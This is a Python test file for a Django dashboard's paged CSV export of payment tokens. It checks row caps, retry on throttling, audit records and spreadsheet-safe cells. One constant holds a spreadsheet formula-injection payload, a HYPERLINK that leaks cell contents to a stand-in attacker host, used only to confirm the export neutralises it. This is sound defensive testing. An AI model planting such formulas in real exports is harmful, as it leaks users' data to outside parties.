"""Streaming CSV export: all pages of exactly the current filters and sort, one page at a time, capped,
paced on throttling, spreadsheet-safe, ending with a clear line when incomplete, and audited."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from django.contrib.auth import get_user_model
from django.core.signals import request_finished
from django.db import close_old_connections
from django.template.loader import render_to_string
from django.test import RequestFactory

from dashboard.accounts.tokens import StoredTokenProvider
from dashboard.audit.models import AuditRecord
from dashboard.audit.services import record_export
from dashboard.core.export import stream as export
from dashboard.core.export.cells import ExportColumn, csv_cell
from dashboard.core.export.response import csv_export_response, export_link, export_search_csv
from dashboard.ledger.tables import LedgerEntryTable
from dashboard.nexudus.client import NexudusClient
from dashboard.nexudus.errors import NexudusRateLimited, NexudusServerError
from dashboard.nexudus.queries import PaymentTokenQuery
from dashboard.payment_tokens.forms import PaymentTokenSearchForm
from dashboard.payment_tokens.tables import PaymentTokenTable

from .fakes import FakePaymentTokenSearch, make_tokens

# Each feature's CSV columns are its table's (one definition per column).
payment_token_export_columns = PaymentTokenTable.export_columns
ledger_entry_export_columns = LedgerEntryTable.export_columns

TOKENS_API = "/api/billing/coworkerinvoicepaymenttokens"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def person(db):
    return get_user_model().objects.create(username="ops@sandbox.test", email="ops@sandbox.test")


def get_request(user, path="/payment-tokens/", **params):
    request = RequestFactory().get(path, params)
    request.user = user
    request.request_id = "req-export-1"
    return request


def read_csv(response) -> tuple[list[str], list[list[str]]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body[1:])))
    return rows[0], rows[1:]


# --- against the sandbox ---------------------------------------------------------------------------


def test_a_multi_page_export_is_the_union_of_the_pages_masked_and_neutralised(ops_client, upstream, settings):
    invoice_id = upstream.api("GET", "/api/billing/coworkerinvoices", params={"size": 1}).json()["Records"][0]["Id"]
    for n in range(12):
        upstream.api(
            "POST",
            TOKENS_API,
            json={
                "CoworkerInvoiceId": invoice_id,
                "Token": f"pm_secret_{n:04d}AbCd",
                "Notes": FORMULA if n == 5 else f"note {n}",
            },
        )
    settings.EXPORT_PAGE_SIZE = 5
    expected = upstream.api(
        "GET",
        TOKENS_API,
        params={
            "CoworkerInvoicePaymentToken_CoworkerInvoice": invoice_id,
            "orderBy": "Id",
            "dir": "-1",
            "size": 1000,
        },
    ).json()["Records"]
    assert len(expected) > 10  # at least three pages of 5

    user = get_user_model().objects.get(username="ops@sandbox.test")
    client = NexudusClient(tokens=StoredTokenProvider(user), base_url=upstream.url)
    upstream.reset_counters()
    response = export_search_csv(
        get_request(user, coworker_invoice_id=str(invoice_id), sort="-id", page="2", per_page="50", export="csv"),
        form_class=PaymentTokenSearchForm,
        table_class=PaymentTokenTable,
        search=client.search_payment_tokens,
        columns=payment_token_export_columns(),
        resource="payment_token",
        filename_prefix="payment-tokens",
        on_finished=record_export,  # as the payment token list wires it
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'attachment; filename="payment-tokens-' in response["Content-Disposition"]
    header, rows = read_csv(response)
    assert header[:6] == ["Id", "Invoice number", "Invoice ID", "Customer", "Provider", "Token (masked)"]
    assert [int(r[0]) for r in rows] == [r["Id"] for r in expected]  # every page, in the table's sort
    pages = -(-len(expected) // 5)
    assert upstream.counters()["by_endpoint"][f"GET {TOKENS_API}"] == pages
    by_id = {int(r[0]): r for r in rows}
    for record in expected:
        assert by_id[record["Id"]][5].endswith(record["Token"][-4:]) and record["Token"] not in by_id[record["Id"]][5]
    assert by_id[expected[0]["Id"]][6] != FORMULA
    assert f"'{FORMULA}" in {r[6] for r in rows}
    row = AuditRecord.objects.get(action="export")
    assert (row.outcome, row.resource, row.answer_summary["rows"], row.answer_summary["complete"]) == (
        "success",
        "payment_token",
        len(expected),
        True,
    )
    assert row.request_summary["filters"]["coworker_invoice_id"] == invoice_id


def test_invalid_filters_go_back_to_the_listing_without_asking_nexudus(person):
    search = FakePaymentTokenSearch(make_tokens(3))
    response = export_search_csv(
        get_request(person, coworker_invoice_id="-1", export="csv"),
        form_class=PaymentTokenSearchForm,
        table_class=PaymentTokenTable,
        search=search,
        columns=payment_token_export_columns(),
        resource="payment_token",
        filename_prefix="payment-tokens",
        on_finished=record_export,  # as the payment token list wires it
    )
    assert response.status_code == 302 and "export" not in response["Location"]
    assert search.queries == []


# --- streaming, cap, pacing, failures (in-process search) ----------------------------------------------


def stream(person, search, query=None, **settings_kwargs):
    return csv_export_response(
        get_request(person),
        search=search,
        query=query or PaymentTokenQuery(),
        columns=payment_token_export_columns(),
        resource="payment_token",
        filename_prefix="payment-tokens",
        on_finished=record_export,  # as the payment token list wires it
    )


@pytest.mark.parametrize("depth", [1, 2])
def test_the_file_is_written_page_by_page_with_at_most_the_set_pages_fetched_ahead(person, settings, depth):
    settings.EXPORT_PAGE_SIZE, settings.EXPORT_PAGES_AHEAD = 10, depth
    search = FakePaymentTokenSearch(make_tokens(25))
    response = stream(person, search)
    chunks = iter(response.streaming_content)
    assert len(search.queries) == 1  # only the first page, fetched before the response starts
    header = next(chunks)
    first = next(chunks)
    assert len(search.queries) <= 1 + depth and first.decode().count("\r\n") == 10  # pages on their way
    second = next(chunks)
    assert len(search.queries) <= 3 and second.decode().count("\r\n") == 10
    third = next(chunks)
    assert len(search.queries) == 3 and third.decode().count("\r\n") == 5
    assert list(chunks) == []
    # Never a page past the result (25 rows are 3 pages), never a page twice.
    assert [q.size for q in search.queries] == [10, 10, 10] and sorted(q.page for q in search.queries) == [1, 2, 3]
    assert b"Id" in header


def test_the_next_pages_are_fetched_while_this_one_is_written(person, settings):
    """Pages N+1 and N+2 are requested before page N's chunk is handed over, never N+3."""
    import threading

    settings.EXPORT_PAGE_SIZE, settings.EXPORT_PAGES_AHEAD = 10, 2
    started = {page: threading.Event() for page in (1, 2, 3, 4, 5)}
    release = threading.Event()
    inner = FakePaymentTokenSearch(make_tokens(50))

    def search(query):
        started[query.page].set()
        if query.page > 1:
            release.wait(5)  # the pages ahead stay in flight until the test has looked
        return inner(query)

    chunks = iter(stream(person, search).streaming_content)
    next(chunks)  # the header
    next(chunks)  # page 1's rows
    assert started[2].wait(5) and started[3].wait(5)  # both requested before page 1's chunk was handed over
    assert not started[4].is_set()  # never three pages ahead
    release.set()
    assert len(list(chunks)) == 4
    assert [page for page, event in started.items() if event.is_set()] == [1, 2, 3, 4, 5]


def test_no_page_is_fetched_ahead_past_the_row_cap(person, settings):
    settings.EXPORT_PAGE_SIZE, settings.EXPORT_PAGES_AHEAD, settings.EXPORT_MAX_ROWS = 10, 2, 15
    search = FakePaymentTokenSearch(make_tokens(50))
    read_csv(stream(person, search))
    assert sorted(q.page for q in search.queries) == [1, 2]  # page 3 would start past row 15


@pytest.mark.parametrize(
    "value",
    [
        None,
        "",
        "plain",
        "=1+1",
        "-5",
        "@x",
        "\tx",
        True,
        False,
        0,
        -12,
        10**20,
        Decimal("1E+3"),
        Decimal("-0.50"),
        1.5,
        float("nan"),
        datetime(2025, 7, 1, 8, 30, 15, tzinfo=UTC),
        datetime(2025, 1, 1, 0, 0, 0),
        datetime(999, 1, 1, tzinfo=UTC),
        datetime(2025, 3, 30, 0, 59, 59, 999999, tzinfo=UTC),
    ],
)
def test_the_page_formatter_writes_what_csv_cell_writes(value):
    from zoneinfo import ZoneInfo

    from django.utils import timezone

    from dashboard.core.export.cells import csv_rows, csv_text
    from dashboard.nexudus.enums import PaymentProvider

    columns = [ExportColumn("value", lambda row: row[0]), ExportColumn("gateway", lambda row: row[1])]
    rows = [(value, PaymentProvider.parse("Stripe")), (value, None)]
    with timezone.override(ZoneInfo("Europe/London")):
        fast = csv_rows(columns, timezone.get_current_timezone())
        assert fast(rows) == csv_text(rows, csv_cell)


def test_the_largest_page_size_nexudus_allows_is_used_by_default(person):
    search = FakePaymentTokenSearch(make_tokens(3))
    read_csv(stream(person, search))
    assert search.queries[0].size == 1000


def test_the_row_cap_ends_the_file_with_a_clear_line(person, settings):
    settings.EXPORT_PAGE_SIZE, settings.EXPORT_MAX_ROWS = 5, 12
    search = FakePaymentTokenSearch(make_tokens(25))
    _, rows = read_csv(stream(person, search))
    assert len(rows) == 13 and rows[-1][0].startswith("# export incomplete: stopped at the 12-row limit; 25 rows match")
    assert len(search.queries) == 3  # never a page more than needed
    assert AuditRecord.objects.get(action="export").answer_summary["rows"] == 12


def test_an_export_of_exactly_the_cap_is_complete(person, settings):
    settings.EXPORT_PAGE_SIZE, settings.EXPORT_MAX_ROWS = 5, 10
    _, rows = read_csv(stream(person, FakePaymentTokenSearch(make_tokens(10))))
    assert len(rows) == 10 and not rows[-1][0].startswith("#")


class Flaky:
    """The fake search, failing on chosen pages with chosen errors (one per call, in order)."""

    def __init__(self, search, failures: dict[int, list[Exception]]):
        self.search, self.failures = search, failures

    def __call__(self, query):
        pending = self.failures.get(query.page) or []
        if pending:
            raise pending.pop(0)
        return self.search(query)


def test_throttling_waits_retry_after_and_retries_the_same_page(person, settings, monkeypatch):
    settings.EXPORT_PAGE_SIZE = 10
    waits = []
    monkeypatch.setattr(export, "_sleep", waits.append)
    search = Flaky(
        FakePaymentTokenSearch(make_tokens(25)),
        {2: [NexudusRateLimited(retry_after=3), NexudusRateLimited(retry_after=None)]},
    )
    _, rows = read_csv(stream(person, search))
    assert len(rows) == 25 and waits == [3, export.DEFAULT_WAIT]


def test_a_page_that_keeps_failing_ends_the_file_saying_it_is_incomplete(person, settings, monkeypatch):
    settings.EXPORT_PAGE_SIZE, settings.EXPORT_RETRIES = 10, 2
    monkeypatch.setattr(export, "_sleep", lambda seconds: None)
    search = Flaky(FakePaymentTokenSearch(make_tokens(25)), {2: [NexudusRateLimited(retry_after=1)] * 3})
    _, rows = read_csv(stream(person, search))
    assert len(rows) == 11 and rows[-1][0].startswith("# export incomplete: Nexudus asked us to slow down")
    assert "10 rows written" in rows[-1][0]
    row = AuditRecord.objects.get(action="export")
    assert (row.outcome, row.answer_summary["rows"], row.answer_summary["complete"]) == ("failed", 10, False)


def test_an_upstream_error_mid_stream_is_never_a_silent_truncation(person, settings):
    settings.EXPORT_PAGE_SIZE = 10
    search = Flaky(FakePaymentTokenSearch(make_tokens(25)), {3: [NexudusServerError()]})
    _, rows = read_csv(stream(person, search))
    assert len(rows) == 21 and rows[-1][0].startswith("# export incomplete: Nexudus had a problem")


def test_a_first_page_failure_is_a_problem_page_not_an_empty_file(person):
    search = Flaky(FakePaymentTokenSearch(make_tokens(5)), {1: [NexudusServerError()]})
    response = stream(person, search)
    assert not response.streaming
    assert "text/html" in response["Content-Type"] and "upstream-problem" in response.content.decode()
    assert AuditRecord.objects.get(action="export").outcome == "failed"


def test_a_download_stopped_half_way_is_audited_too(person, settings):
    settings.EXPORT_PAGE_SIZE = 10
    response = stream(person, FakePaymentTokenSearch(make_tokens(25)))
    chunks = iter(response.streaming_content)
    next(chunks), next(chunks)
    # As Django's test client does: the server's close() must not close the test's database connection.
    request_finished.disconnect(close_old_connections)
    try:
        response.close()
    finally:
        request_finished.connect(close_old_connections)
    row = AuditRecord.objects.get(action="export")
    assert (row.outcome, row.answer_summary["rows"]) == ("failed", 10)


# --- cells ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=SUM(A1:A9)", "'=SUM(A1:A9)"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        (Decimal("-120.50"), "-120.50"),
        (Decimal("1E+2"), "100"),
        (-3, "-3"),
        (0, "0"),
        (None, ""),
        (True, "true"),
        (datetime(2025, 7, 1, 9, 30, tzinfo=UTC), "2025-07-01 10:30:00"),  # Europe/London, BST
    ],
)
def test_cells_are_spreadsheet_safe_and_numbers_stay_numbers(value, cell):
    assert csv_cell(value) == cell


def test_ledger_columns_keep_money_plain_with_a_separate_currency(person):
    from tests.invoices.test_verdict import payment

    entry = payment(None, datetime(2025, 1, 15, tzinfo=UTC))
    columns = ledger_entry_export_columns()
    values = {c.header: csv_cell(c.value(entry)) for c in columns}
    assert (values["Credit"], values["Debit"], values["Currency"]) == ("120", "0", "GBP")
    assert "Transaction date ({zone})" in values


def test_the_export_link_states_the_cap_and_keeps_the_current_query(settings):
    request = RequestFactory().get("/payment-tokens/", {"token": "4242", "sort": "-id", "page": "3"})
    html = render_to_string("core/_export_link.html", {"export": export_link(), "table": object()}, request=request)
    assert "Export CSV (up to 20,000 rows)" in html
    assert "token=4242" in html and "sort=-id" in html and "export=csv" in html and "page=3" not in html


def test_header_names_the_time_zone():
    column = ExportColumn("Created ({zone})", lambda r: r)
    assert export._header(column, "Europe/London") == "Created (Europe/London)"
